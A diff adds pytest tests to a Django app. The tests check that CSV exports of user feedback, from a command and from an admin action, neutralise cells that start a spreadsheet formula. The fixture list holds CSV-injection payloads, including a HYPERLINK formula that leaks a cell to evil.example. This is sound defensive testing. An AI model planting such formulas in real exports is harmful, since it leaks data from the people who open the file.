@@ -127,3 +127,51 @@ def test_admin_action_exports_the_selection_and_is_logged(client, labelled, make
     body = b"".join(response.streaming_content).decode()
     assert len(list(csv.DictReader(io.StringIO(body)))) == 2
     assert LogEntry.objects.count() == 2
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+]
+
+
+@pytest.fixture
+def formula_corrections(user):
+    """One wrong-answer feedback per formula trigger, typed as the free-text correction."""
+    for index, text in enumerate(FORMULAS):
+        prediction = make_prediction(user, content=distinct_photo(10 + index))
+        Feedback.objects.create(
+            user=user, prediction=prediction, is_correct=False, other_label=text
+        )
+
+
+def test_csv_cells_that_start_a_formula_are_quoted_in_the_command(tmp_path, formula_corrections):
+    run_export(tmp_path, "--format", "csv")
+    with open(tmp_path / "out", newline="") as manifest:  # keep the carriage return as written
+        rows = list(csv.DictReader(manifest))
+    assert sorted(row["other_label"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    lines = run_export(tmp_path, "--format", "jsonl")  # JSON is not opened as a sheet
+    assert sorted(json.loads(line)["other_label"] for line in lines.splitlines()) == sorted(
+        FORMULAS
+    )
+
+
+def test_csv_cells_that_start_a_formula_are_quoted_in_the_admin_action(
+    client, formula_corrections, make_user
+):
+    staff = make_user(email="=cmd@example.com", is_staff=True)
+    staff.user_permissions.add(Permission.objects.get(codename="export_dataset"))
+    client.force_login(staff)
+    from classifier.models import Prediction
+
+    chosen = [str(pk) for pk in Prediction.objects.values_list("pk", flat=True)]
+    response = client.post(
+        "/admin/quality/datasetexport/", {"action": "export_csv", "_selected_action": chosen}
+    )
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted(row["other_label"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    assert all(row["label"] == "" and row["model_name"] == "resnet50" for row in rows)
